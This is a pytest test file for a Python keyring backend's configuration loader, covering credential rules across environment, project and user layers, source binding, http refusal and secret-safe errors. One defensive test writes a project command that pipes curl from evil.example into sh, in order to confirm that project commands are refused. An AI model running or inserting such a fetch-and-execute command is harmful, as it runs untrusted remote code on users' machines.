"""`config.load_config(env, cwd)`: the env, project and user layers of DESIGN.md, source
binding, commands, vault settings, and one error per broken rule while the rest still load."""

from __future__ import annotations

import textwrap
import uuid
from pathlib import Path
from typing import Any, Optional

import pytest

from keyring_backend.config import Config, load_config, parse_duration, source_prefix
from keyring_backend.errors import ConfigError
from keyring_backend.rules import CredentialRule, Layer
from keyring_backend.settings import CommandSpec, VaultSettings
from keyring_backend.store import CredentialStore
from keyring_backend.urls import parse_location
from tests.leaks import forms

GITLAB = "https://gitlab.example.com/api/v4/groups/12/-/packages/pypi"


def make_secret(label: str = "tok") -> str:
    return f"s3cr@t:/#%? ü-{label}-{uuid.uuid4().hex[:12]}"


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


@pytest.fixture
def user_home(tmp_path: Path) -> Path:
    """HOME for the user layer, so this machine's own config never leaks in."""
    path = tmp_path / "home"
    path.mkdir()
    return path


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


def user_file(home: Path) -> Path:
    return home / ".config" / "private-packages" / "config.toml"


def load(home: Path, cwd: Path, **env: str) -> Config:
    """The configuration in a trusted environment: these tests are about the layers, not
    about trust (test_trust.py), so project content applies."""
    return load_config({"HOME": str(home), "PRIVATE_PACKAGES_TRUST": "1", **env}, cwd)


def only_rule(config: Config) -> CredentialRule:
    assert config.errors == []
    assert len(config.rules.rules) == 1
    return config.rules.rules[0]


def find(config: Config, url: str) -> Optional[CredentialRule]:
    loc = parse_location(url)
    assert loc is not None
    return config.rules.find(loc)


def messages(config: Config) -> list[str]:
    return [str(error) for error in config.errors]


def assert_no_leak(config: Config, *secrets: str) -> None:
    for error in config.errors:
        assert isinstance(error, ConfigError)
        for secret in secrets:
            for form in forms(secret):
                assert form not in str(error)
                assert form not in repr(error)


# --------------------------------------------------------------------------- project file

RULE = f"""
[[tool.private-packages.credentials]]
url = "{GITLAB}"
username = "gitlab-ci-token"
password = "${{CI_JOB_TOKEN}}"
"""


def test_project_file_is_found_from_a_subdirectory(user_home: Path, project: Path) -> None:
    pyproject = write(project / "pyproject.toml", RULE)
    cwd = project / "src" / "acme" / "deep"
    cwd.mkdir(parents=True)
    config = load(user_home, cwd)
    assert config.project_file == pyproject
    rule = only_rule(config)
    assert rule.url == GITLAB
    assert (rule.username, rule.password) == ("gitlab-ci-token", "${CI_JOB_TOKEN}")
    assert rule.layer is Layer.PROJECT
    assert rule.base_dir == project
    assert rule.origin == f"{pyproject} [[tool.private-packages.credentials]] #1"


def test_nearest_project_file_wins(user_home: Path, project: Path) -> None:
    write(project / "pyproject.toml", RULE)
    inner = write(project / "libs" / "inner" / "pyproject.toml", "[project]\nname = 'inner'\n")
    config = load(user_home, inner.parent)
    assert config.project_file == inner
    assert config.rules.rules == []
    assert config.errors == []


def test_no_project_and_no_user_file(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path)
    assert (config.project_file, config.user_file) == (None, None)
    assert config.rules.rules == []
    assert config.errors == []
    assert config.settings.commands == {}
    assert config.settings.vault == VaultSettings()


# --------------------------------------------------------------------------- user file

USER_RULE = """
[[credentials]]
url = "https://{host}/simple"
password = "${{TOKEN}}"
"""


@pytest.mark.parametrize("winner", ["PRIVATE_PACKAGES_CONFIG", "XDG_CONFIG_HOME", "HOME"])
def test_user_file_location(user_home: Path, tmp_path: Path, winner: str) -> None:
    files = {
        "PRIVATE_PACKAGES_CONFIG": write(tmp_path / "custom" / "pp.toml",
                                         USER_RULE.format(host="custom.example")),
        "XDG_CONFIG_HOME": write(tmp_path / "xdg" / "private-packages" / "config.toml",
                                 USER_RULE.format(host="xdg.example")),
        "HOME": write(user_file(user_home), USER_RULE.format(host="home.example")),
    }
    env = {"PRIVATE_PACKAGES_CONFIG": str(files["PRIVATE_PACKAGES_CONFIG"]),
           "XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    for name in ("PRIVATE_PACKAGES_CONFIG", "XDG_CONFIG_HOME"):  # drop those above the winner
        if name == winner:
            break
        del env[name]
    config = load(user_home, tmp_path, **env)
    assert config.user_file == files[winner]
    rule = only_rule(config)
    assert rule.layer is Layer.USER
    assert rule.location.host == {"PRIVATE_PACKAGES_CONFIG": "custom.example",
                                  "XDG_CONFIG_HOME": "xdg.example",
                                  "HOME": "home.example"}[winner]
    assert rule.base_dir == files[winner].parent
    assert rule.username == "__token__"


def test_private_packages_config_pointing_nowhere_is_an_error(user_home: Path,
                                                              tmp_path: Path) -> None:
    write(user_file(user_home), USER_RULE.format(host="home.example"))
    missing = tmp_path / "nowhere.toml"
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_CONFIG=str(missing))
    assert messages(config) == [
        f"PRIVATE_PACKAGES_CONFIG points at {missing}, which is not a file"]
    assert config.rules.rules == []  # the HOME file is not used instead
    assert config.user_file is None


def test_empty_private_packages_config_means_unset(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_CONFIG="")
    assert config.errors == []
    write(user_file(user_home), USER_RULE.format(host="home.example"))
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_CONFIG="")
    assert only_rule(config).location.host == "home.example"


# --------------------------------------------------------------------------- env rules


def test_env_defined_rule(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path,
                  PRIVATE_PACKAGES_GITLAB_URL=GITLAB,
                  PRIVATE_PACKAGES_GITLAB_USERNAME="gitlab-ci-token",
                  PRIVATE_PACKAGES_GITLAB_PASSWORD="${CI_JOB_TOKEN}")
    rule = only_rule(config)
    assert rule.url == GITLAB
    assert (rule.username, rule.password) == ("gitlab-ci-token", "${CI_JOB_TOKEN}")
    assert rule.layer is Layer.ENV
    assert rule.origin == "env PRIVATE_PACKAGES_GITLAB_*"
    assert rule.base_dir is None


def test_env_rule_username_defaults_to_token(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_PYPI_URL="https://pypi.example/simple",
                  PRIVATE_PACKAGES_PYPI_PASSWORD="${PYPI_TOKEN}")
    assert only_rule(config).username == "__token__"


def test_env_rule_bound_to_a_source(user_home: Path, project: Path) -> None:
    write(project / "pyproject.toml", """
        [[tool.poetry.source]]
        name = "internal"
        url = "https://nexus.example.com/repository/pypi-internal/simple/"
        priority = "supplemental"
    """)
    config = load(user_home, project, PRIVATE_PACKAGES_NEXUS_SOURCE="internal",
                  PRIVATE_PACKAGES_NEXUS_PASSWORD="${NEXUS_TOKEN}")
    rule = only_rule(config)
    assert rule.source == "internal"
    assert rule.url == "https://nexus.example.com/repository/pypi-internal"
    assert rule.layer is Layer.ENV


@pytest.mark.parametrize("flag", ["true", "TRUE", "1", "yes"])
def test_env_rule_allow_http(user_home: Path, tmp_path: Path, flag: str) -> None:
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_LAN_URL="http://pypi.lan.example/simple",
                  PRIVATE_PACKAGES_LAN_PASSWORD="${LAN_TOKEN}",
                  PRIVATE_PACKAGES_LAN_ALLOW_HTTP=flag)
    rule = only_rule(config)
    assert rule.allow_http
    assert rule.may_use_http


@pytest.mark.parametrize("flag", [None, "", "false", "0", "no"])
def test_env_rule_plain_http_refused_without_allow_http(user_home: Path, tmp_path: Path,
                                                        flag: Optional[str]) -> None:
    secret = make_secret()
    env = {"PRIVATE_PACKAGES_LAN_URL": "http://pypi.lan.example/simple",
           "PRIVATE_PACKAGES_LAN_PASSWORD": secret}
    if flag is not None:
        env["PRIVATE_PACKAGES_LAN_ALLOW_HTTP"] = flag
    config = load(user_home, tmp_path, **env)
    assert config.rules.rules == []
    [message] = messages(config)
    assert message.startswith("env PRIVATE_PACKAGES_LAN_*: refusing to send a credential over "
                              "plain http to pypi.lan.example")
    assert_no_leak(config, secret)


def test_env_rule_without_password_is_an_error(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_GITLAB_URL=GITLAB,
                  PRIVATE_PACKAGES_GITLAB_USERNAME="gitlab-ci-token",
                  PRIVATE_PACKAGES_OTHER_URL="https://other.example/simple",
                  PRIVATE_PACKAGES_OTHER_PASSWORD="${OTHER_TOKEN}")
    [message] = messages(config)
    assert message.startswith("env PRIVATE_PACKAGES_GITLAB_*: password is missing")
    assert [r.origin for r in config.rules.rules] == ["env PRIVATE_PACKAGES_OTHER_*"]


def test_env_rule_with_a_bad_url_does_not_echo_the_password(user_home: Path,
                                                            tmp_path: Path) -> None:
    secret = make_secret()
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_X_URL="gitlab.example.com",
                  PRIVATE_PACKAGES_X_PASSWORD=secret)
    [message] = messages(config)
    assert message.startswith("env PRIVATE_PACKAGES_X_*: url must be an http(s) URL")
    assert_no_leak(config, secret)


def test_other_private_packages_variables_are_not_rules(user_home: Path,
                                                        tmp_path: Path) -> None:
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_URL="https://x.example/",
                  PRIVATE_PACKAGES_SOURCE="x", PRIVATE_PACKAGES_DEBUG="1",
                  PRIVATE_PACKAGES_A_PASSWORD="${A}")
    assert config.rules.rules == []
    assert config.errors == []


def test_env_rules_load_in_name_order(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path,
                  PRIVATE_PACKAGES_B_URL="https://b.example/", PRIVATE_PACKAGES_B_PASSWORD="${B}",
                  PRIVATE_PACKAGES_A_URL="https://a.example/", PRIVATE_PACKAGES_A_PASSWORD="${A}")
    assert [r.origin for r in config.rules.rules] == ["env PRIVATE_PACKAGES_A_*",
                                                      "env PRIVATE_PACKAGES_B_*"]


# --------------------------------------------------------------------------- sources

SOURCE_RULE = """
[[tool.private-packages.credentials]]
source = "internal"
username = "__token__"
password = "${INTERNAL_TOKEN}"
"""
NEXUS = "https://nexus.example.com/repository/pypi-internal"


@pytest.mark.parametrize(
    "declaration",
    [
        f'[[tool.poetry.source]]\nname = "internal"\nurl = "{NEXUS}/simple/"\n',
        f'[[tool.poetry.source]]\nname = "internal"\nurl = "{NEXUS}/simple"\n',
        f'[[tool.uv.index]]\nname = "internal"\nurl = "{NEXUS}/simple/"\nexplicit = true\n',
        None,  # POETRY_REPOSITORIES_INTERNAL_URL
    ],
    ids=["poetry-source", "poetry-source-no-slash", "uv-index", "env-repository"],
)
def test_source_binding(user_home: Path, project: Path, declaration: Optional[str]) -> None:
    write(project / "pyproject.toml", (declaration or "") + SOURCE_RULE)
    env = {} if declaration else {"POETRY_REPOSITORIES_INTERNAL_URL": f"{NEXUS}/simple/"}
    config = load(user_home, project, **env)
    rule = only_rule(config)
    assert rule.source == "internal"
    assert rule.url == NEXUS  # the trailing /simple is dropped: downloads live beside it
    assert config.rules.for_source("internal") is rule
    assert config.sources["internal"].startswith(NEXUS + "/simple")
    assert find(config, f"{NEXUS}/simple/acme-internal/") is rule
    assert find(config, f"{NEXUS}/files/ab/acme_internal-1.0-py3-none-any.whl#sha256=ab") is rule
    assert find(config, f"{NEXUS}-other/simple/") is None
    assert find(config, "https://nexus.example.com/repository/pypi-public/simple/") is None


def test_source_without_simple_keeps_its_path(user_home: Path, project: Path) -> None:
    write(project / "pyproject.toml", """
        [[tool.poetry.source]]
        name = "internal"
        url = "https://pkgs.example.com/pypi/"
    """ + SOURCE_RULE)
    assert only_rule(load(user_home, project)).url == "https://pkgs.example.com/pypi"


@pytest.mark.parametrize(
    ("url", "prefix"),
    [("https://h/simple", "https://h"), ("https://h/simple/", "https://h"),
     ("https://h/a/simple//", "https://h/a"), ("https://h/a/", "https://h/a"),
     ("https://h/simpler", "https://h/simpler"), ("https://h/x/notsimple", "https://h/x/notsimple")],
)
def test_source_prefix(url: str, prefix: str) -> None:
    assert source_prefix(url) == prefix


def test_env_repository_names_follow_poetry(user_home: Path, tmp_path: Path) -> None:
    config = load(user_home, tmp_path, POETRY_REPOSITORIES_MY_REPO_URL="https://up.example/legacy/",
                  POETRY_REPOSITORIES_EMPTY_URL="")
    assert config.sources == {"my-repo": "https://up.example/legacy/"}


def test_env_repository_wins_over_a_project_source(user_home: Path, project: Path) -> None:
    # The user chose that repository's URL; a project reusing the name cannot move it.
    write(project / "pyproject.toml", f'[[tool.poetry.source]]\nname = "internal"\n'
                                      f'url = "{NEXUS}/simple/"\n')
    config = load(user_home, project, POETRY_REPOSITORIES_INTERNAL_URL="https://elsewhere/")
    assert config.sources["internal"] == "https://elsewhere/"
    assert config.project_sources == {"internal": f"{NEXUS}/simple/"}


def test_unknown_source_in_the_project_is_an_error(user_home: Path, project: Path) -> None:
    pyproject = write(project / "pyproject.toml", SOURCE_RULE)
    config = load(user_home, project)
    assert config.rules.rules == []
    assert messages(config) == [
        f"{pyproject} [[tool.private-packages.credentials]] #1: no source named 'internal' in "
        "[[tool.poetry.source]] or [[tool.uv.index]]"]


@pytest.mark.parametrize("declared", [True, False], ids=["project-has-it", "project-lacks-it"])
def test_user_file_rule_bound_by_name_is_refused(user_home: Path, project: Path,
                                                 declared: bool) -> None:
    """The user file serves every project, and any project (a cloned one too) may call its
    source "internal" and point it anywhere: a user-file rule must bind a url. The by-name
    rule is one error and left out; the rules around it still load."""
    path = write(user_file(user_home), """
        [[credentials]]
        source = "internal"
        password = "${INTERNAL_TOKEN}"

        [[credentials]]
        url = "https://other.example/simple"
        password = "${OTHER_TOKEN}"
    """)
    if declared:
        write(project / "pyproject.toml", f'[[tool.poetry.source]]\nname = "internal"\n'
                                          f'url = "{NEXUS}/simple/"\n')
    config = load(user_home, project)
    assert [(r.url, r.layer) for r in config.rules.rules] == [("https://other.example/simple",
                                                               Layer.USER)]
    assert config.rules.for_source("internal") is None
    assert find(config, f"{NEXUS}/simple/acme/") is None
    hint = (f'write url = "{NEXUS}" if this project\'s \'internal\' is the index it is for'
            if declared else 'write url = "<the index\'s URL>"')
    assert messages(config) == [
        f"{path} [[credentials]] #1: a user-file rule must bind a url: a project's source of "
        f"that name could point anywhere; {hint} (`poetry source auth internal --global` in "
        "the project it is for does it)"]
    # It binds nothing, so it concerns no source: a poetry command warns and goes on.
    assert config.errors[0].entry == {}


# --------------------------------------------------------------------------- broken rules


def test_each_broken_rule_is_one_error_and_the_others_load(user_home: Path,
                                                           project: Path) -> None:
    secret = make_secret()
    pyproject = write(project / "pyproject.toml", f"""
        [[tool.private-packages.credentials]]
        url = "https://one.example/simple"
        password = "${{ONE}}"

        [[tool.private-packages.credentials]]
        username = "neither"
        password = "{secret}"

        [[tool.private-packages.credentials]]
        url = "https://both.example/simple"
        source = "internal"
        password = "{secret}"

        [[tool.private-packages.credentials]]
        url = "https://typo.example/simple"
        pasword = "{secret}"

        [[tool.private-packages.credentials]]
        url = "https://five.example/simple"
        password = "${{FIVE}}"

        [[tool.private-packages.credentials]]
        url = "https://nopw.example/simple"

        [[tool.private-packages.credentials]]
        url = "https://int.example/simple"
        password = 12345

        [[tool.private-packages.credentials]]
        url = "https://flag.example/simple"
        password = "{secret}"
        allow_http = "yes"

        [[tool.private-packages.credentials]]
        url = "ftp://ftp.example/simple"
        password = "{secret}"

        [[tool.private-packages.credentials]]
        url = "http://public.example/simple"
        password = "{secret}"

        [[tool.private-packages.credentials]]
        url = "https://empty.example/simple"
        password = ""
    """)
    config = load(user_home, project)
    assert [r.url for r in config.rules.rules] == ["https://one.example/simple",
                                                   "https://five.example/simple"]
    prefix = f"{pyproject} [[tool.private-packages.credentials]]"
    expected = {
        2: "give exactly one of url",
        3: "give exactly one of url",
        4: "unknown key(s) pasword; expected allow_http, password, source, url, username",
        6: "password is missing",
        7: "password must be a string",
        8: "allow_http must be true or false",
        9: "url must be an http(s) URL",
        10: "refusing to send a credential over plain http to public.example",
        11: "password is empty",
    }
    found = messages(config)
    assert len(found) == len(expected)
    for message, (number, words) in zip(found, expected.items()):
        assert message.startswith(f"{prefix} #{number}: ")
        assert words in message
    assert_no_leak(config, secret)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('[tool.private-packages]\ncredentials = "x"\n', "must be an array of tables"),
        ("[tool.private-packages]\ncredentials = [1]\n", "#1: must be a table"),
        ('[tool]\nprivate-packages = "x"\n', "[tool.private-packages] must be a table"),
    ],
)
def test_malformed_tables(user_home: Path, project: Path, text: str, words: str) -> None:
    pyproject = write(project / "pyproject.toml", text)
    config = load(user_home, project)
    [message] = messages(config)
    assert message.startswith(str(pyproject))
    assert words in message


def test_invalid_toml_in_the_project_keeps_the_user_rules(user_home: Path,
                                                          project: Path) -> None:
    secret = make_secret()
    pyproject = write(project / "pyproject.toml", f"""
        [[tool.private-packages.credentials]]
        url = "https://one.example/simple"
        password = "{secret}
    """)
    write(user_file(user_home), USER_RULE.format(host="home.example"))
    config = load(user_home, project, PRIVATE_PACKAGES_E_URL="https://env.example/",
                  PRIVATE_PACKAGES_E_PASSWORD="${E}")
    [message] = messages(config)
    assert message.startswith(f"{pyproject}: invalid TOML: ")
    assert "\n" not in message
    assert [r.location.host for r in config.rules.rules] == ["env.example", "home.example"]
    assert_no_leak(config, secret)


def test_invalid_toml_in_the_user_file_keeps_the_project_rules(user_home: Path,
                                                               project: Path) -> None:
    write(project / "pyproject.toml", RULE)
    broken = write(user_file(user_home), "[[credentials]\nurl = 'x'\n")
    config = load(user_home, project)
    [message] = messages(config)
    assert message.startswith(f"{broken}: invalid TOML")
    assert [r.url for r in config.rules.rules] == [GITLAB]


# --------------------------------------------------------------------------- commands


def test_commands_in_a_project_are_refused(user_home: Path, project: Path) -> None:
    pyproject = write(project / "pyproject.toml", """
        [tool.private-packages.commands.evil]
        run = ["sh", "-c", "curl https://evil.example | sh"]
    """)
    write(user_file(user_home), '[commands.mine]\nrun = ["true"]\n')
    config = load(user_home, project)
    [message] = messages(config)
    assert message.startswith(f"{pyproject}: [tool.private-packages.commands] is ignored")
    assert set(config.settings.commands) == {"mine"}


def test_commands_from_the_user_file(user_home: Path, tmp_path: Path) -> None:
    path = write(user_file(user_home), """
        [commands.codeartifact]
        run = ["aws", "codeartifact", "get-authorization-token", "--domain", "acme",
               "--query", "authorizationToken", "--output", "text"]
        ttl = "12h"

        [commands.gcloud]
        run = "gcloud auth print-access-token --account 'ci bot@acme.iam'"
        ttl = 3000
        timeout = "30s"

        [commands.plain]
        run = ["token-tool"]

        [commands.bad-ttl]
        run = ["x"]
        ttl = "soon"

        [commands.no-run]
        ttl = 5

        [commands.empty]
        run = []

        [commands.not-strings]
        run = ["x", 1]

        [commands.bad-timeout]
        run = ["x"]
        timeout = -1
    """)
    config = load(user_home, tmp_path)
    commands = config.settings.commands
    assert commands == {
        "codeartifact": CommandSpec("codeartifact", (
            "aws", "codeartifact", "get-authorization-token", "--domain", "acme",
            "--query", "authorizationToken", "--output", "text"), ttl=43200.0, timeout=60.0),
        "gcloud": CommandSpec("gcloud", (
            "gcloud", "auth", "print-access-token", "--account", "ci bot@acme.iam"),
            ttl=3000.0, timeout=30.0),
        "plain": CommandSpec("plain", ("token-tool",), ttl=0.0, timeout=60.0),
    }
    expected = {
        "bad-ttl": "not a duration: 'soon'",
        "no-run": "needs run = [",
        "empty": "run must be a non-empty list of strings",
        "not-strings": "run must be a non-empty list of strings",
        "bad-timeout": "timeout: not a duration: -1",
    }
    found = messages(config)
    assert len(found) == len(expected)
    for message, (name, words) in zip(found, expected.items()):
        assert message.startswith(f"{path} [commands.{name}]: ")
        assert message.count("[commands.") == 1
        assert words in message


def test_commands_must_be_a_table(user_home: Path, tmp_path: Path) -> None:
    path = write(user_file(user_home), 'commands = ["aws"]\n')
    config = load(user_home, tmp_path)
    assert messages(config) == [
        f"{path}: [commands] must be a table of [commands.NAME]; it is ignored"]


@pytest.mark.parametrize(
    ("value", "seconds"),
    [(0, 0.0), (90, 90.0), (1.5, 1.5), ("90", 90.0), ("45s", 45.0), ("30m", 1800.0),
     ("12h", 43200.0), (" 12h ", 43200.0), ("1.5h", 5400.0), ("1d", 86400.0), ("2 h", 7200.0)],
)
def test_parse_duration(value: Any, seconds: float) -> None:
    assert parse_duration(value) == seconds


@pytest.mark.parametrize("value", [True, -1, "-5", "soon", "12 hours", "", "h", "1w", None])
def test_parse_duration_rejects(value: Any) -> None:
    with pytest.raises(ConfigError):
        parse_duration(value)


# --------------------------------------------------------------------------- vault


def test_vault_settings_merge_project_over_user(user_home: Path, project: Path) -> None:
    write(user_file(user_home), """
        [vault]
        addr = "https://vault.user.example"
        auth = "approle"
        mount = "ci-approle"
        timeout = 20
    """)
    write(project / "pyproject.toml", """
        [tool.private-packages.vault]
        addr = "https://vault.project.example"
        namespace = "team-a"
        timeout = "30s"
    """)
    config = load(user_home, project)
    assert config.errors == []
    assert config.settings.vault == VaultSettings(
        addr="https://vault.project.example", auth="approle", mount="ci-approle",
        namespace="team-a", timeout=30.0)


@pytest.mark.parametrize(
    ("table", "words", "expected"),
    [
        ('auth = "magic"\naddr = "https://v"', "vault]: auth must be token, approle or jwt, "
         "not 'magic'; it is ignored", VaultSettings(addr="https://v")),
        ('adress = "https://v"\nrole = "ci"', "unknown vault key(s) adress",
         VaultSettings(role="ci")),
        ('timeout = "forever"', "vault]: timeout: not a duration", VaultSettings()),
    ],
)
def test_bad_vault_values(user_home: Path, project: Path, table: str, words: str,
                          expected: VaultSettings) -> None:
    write(project / "pyproject.toml", "[tool.private-packages.vault]\n" + table + "\n")
    config = load(user_home, project)
    [message] = messages(config)
    assert words in message
    assert config.settings.vault == expected


@pytest.mark.parametrize("auth", ["token", "approle", "jwt"])
def test_vault_auth_values(user_home: Path, tmp_path: Path, auth: str) -> None:
    write(user_file(user_home), f'[vault]\nauth = "{auth}"\n')
    assert load(user_home, tmp_path).settings.vault.auth == auth


def test_vault_must_be_a_table(user_home: Path, tmp_path: Path) -> None:
    path = write(user_file(user_home), 'vault = "https://vault.example"\n')
    assert messages(load(user_home, tmp_path)) == [f"{path} [vault] must be a table; it is "
                                                   "ignored"]


# --------------------------------------------------------------------------- layers


LAYERED_URL = "https://pkgs.example.com/simple"


def layered(user_home: Path, project: Path, *, env_rule: bool, project_rule: bool,
            user_rule: bool) -> CredentialStore:
    env = {"HOME": str(user_home), "PRIVATE_PACKAGES_TRUST": "1"}
    if env_rule:
        env |= {"PRIVATE_PACKAGES_X_URL": LAYERED_URL, "PRIVATE_PACKAGES_X_USERNAME": "env-user",
                "PRIVATE_PACKAGES_X_PASSWORD": "${E}"}
    text = ('[[tool.private-packages.credentials]]\n'
            f'url = "{LAYERED_URL}/"\nusername = "project-user"\npassword = "${{P}}"\n')
    write(project / "pyproject.toml", text if project_rule else "")
    text = f'[[credentials]]\nurl = "{LAYERED_URL}"\nusername = "user-user"\npassword = "${{U}}"\n'
    write(user_file(user_home), text if user_rule else "")
    return CredentialStore(env=env, cwd=project)


@pytest.mark.parametrize(
    ("env_rule", "project_rule", "user_rule", "winner"),
    [
        (True, True, True, "env-user"),
        (False, True, True, "project-user"),
        (True, False, True, "env-user"),
        (False, False, True, "user-user"),
        (False, False, False, None),
    ],
)
def test_layer_precedence_through_the_store(user_home: Path, project: Path, env_rule: bool,
                                            project_rule: bool, user_rule: bool,
                                            winner: Optional[str]) -> None:
    store = layered(user_home, project, env_rule=env_rule, project_rule=project_rule,
                    user_rule=user_rule)
    for service in (LAYERED_URL + "/", LAYERED_URL + "/acme/",
                    "https://pkgs.example.com:443/simple/acme/acme-1.0.tar.gz#sha256=0f"):
        rule = store.rule_for_service(service)
        assert (rule.username if rule else None) == winner
    assert store.rule_for_service("https://pkgs.example.com/other/") is None
    assert store.config.errors == []


def test_narrower_user_rule_beats_a_wider_project_rule(user_home: Path, project: Path) -> None:
    write(project / "pyproject.toml", '[[tool.private-packages.credentials]]\n'
                                      'url = "https://pkgs.example.com/"\n'
                                      'username = "wide"\npassword = "${W}"\n')
    write(user_file(user_home), '[[credentials]]\nurl = "https://pkgs.example.com/team"\n'
                                'username = "narrow"\npassword = "${N}"\n')
    store = CredentialStore(env={"HOME": str(user_home), "PRIVATE_PACKAGES_TRUST": "1"},
                            cwd=project)
    narrow = store.rule_for_service("https://pkgs.example.com/team/simple/")
    wide = store.rule_for_service("https://pkgs.example.com/simple/")
    assert narrow is not None
    assert wide is not None
    assert (narrow.username, narrow.layer) == ("narrow", Layer.USER)
    assert (wide.username, wide.layer) == ("wide", Layer.PROJECT)


@pytest.mark.parametrize("tool_text", ["tool = 3\n", "[tool]\npoetry = 3\nuv = 'x'\n",
                                       "[tool.poetry]\nsource = 'x'\n"])
def test_tables_written_wrong_by_other_tools_do_not_break_loading(
        tmp_path: Path, tool_text: str) -> None:
    (tmp_path / "pyproject.toml").write_text(tool_text)
    config = load_config({"HOME": str(tmp_path)}, tmp_path)
    assert config.rules.rules == []
    assert config.sources == {}


@pytest.mark.parametrize("text", [
    "[commands.mint]\nrun = 5\n",
    "[commands.mint]\nrun = [\"aws\", 1]\nttl = []\n",
    "[commands.mint]\nrun = {a = 1}\n",
    "[commands.mint]\nrun = \"aws 'unbalanced\"\n",
    "[commands.mint]\nrun = [\"x\"]\ntimeout = {}\nextra = 1\n",
    "[commands.mint]\nrun = [\"x\"]\nttl = nan\n",
    "commands = 5\n",
    "[vault]\ntimeout = [1]\n",
    "[vault]\ntimeout = 0\n",
    "[vault]\nauth = true\n",
    "[vault]\nadress = \"https://typo.example.com\"\n",
    "vault = []\n",
    "credentials = 5\n",
    "credentials = [5, \"x\"]\n",
    "[[credentials]]\nurl = 5\npassword = \"${T}\"\n",
    "[[credentials]]\nurl = \"https://x.example.com\"\npassword = [\"${T}\"]\n",
    "[[credentials]]\nurl = \"https://x.example.com\"\npassword = \"${T}\"\nusername = 1\n",
    "[[credentials]]\nurl = \"https://x.example.com\"\npassword = \"${T}\"\nallow_http = \"yes\"\n",
])
def test_every_wrong_type_is_one_error_naming_the_file(user_home: Path, tmp_path: Path,
                                                       text: str) -> None:
    path = write(user_file(user_home), text)
    config = load(user_home, tmp_path, PRIVATE_PACKAGES_E_URL="https://e.example.com",
                  PRIVATE_PACKAGES_E_PASSWORD="${E}")
    assert config.errors, text
    assert all(str(error).startswith(str(path)) for error in config.errors), messages(config)
    assert [r.url for r in config.rules.rules] == ["https://e.example.com/"]  # env still works


@pytest.mark.parametrize("data", [b"\xff\xfe[[credentials]]\n", b"[[credentials]\n",
                                  b"a = \"\\x\"\n"])
def test_an_unreadable_project_file_drops_its_rules_only(user_home: Path, project: Path,
                                                         data: bytes) -> None:
    (project / "pyproject.toml").write_bytes(data)
    config = load(user_home, project, PRIVATE_PACKAGES_E_URL="https://e.example.com",
                  PRIVATE_PACKAGES_E_PASSWORD="${E}")
    [error] = messages(config)
    assert error.startswith(f"{project / 'pyproject.toml'}: ") and "ignored" in error
    assert [r.url for r in config.rules.rules] == ["https://e.example.com/"]


def test_vault_connection_keys_are_checked_where_vault_is_used(user_home: Path,
                                                                tmp_path: Path) -> None:
    """providers/vault/connection.py names the reference in that one line; loading the
    configuration neither warns nor crashes, whatever the type."""
    write(user_file(user_home), "[vault]\naddr = 5\nrole = 1.5\nmount = []\njwt_env = {}\n"
                                "namespace = 1979-05-27\n")
    config = load(user_home, tmp_path)
    assert config.errors == [] and config.settings.vault.addr == 5  # type: ignore[comparison-overlap]
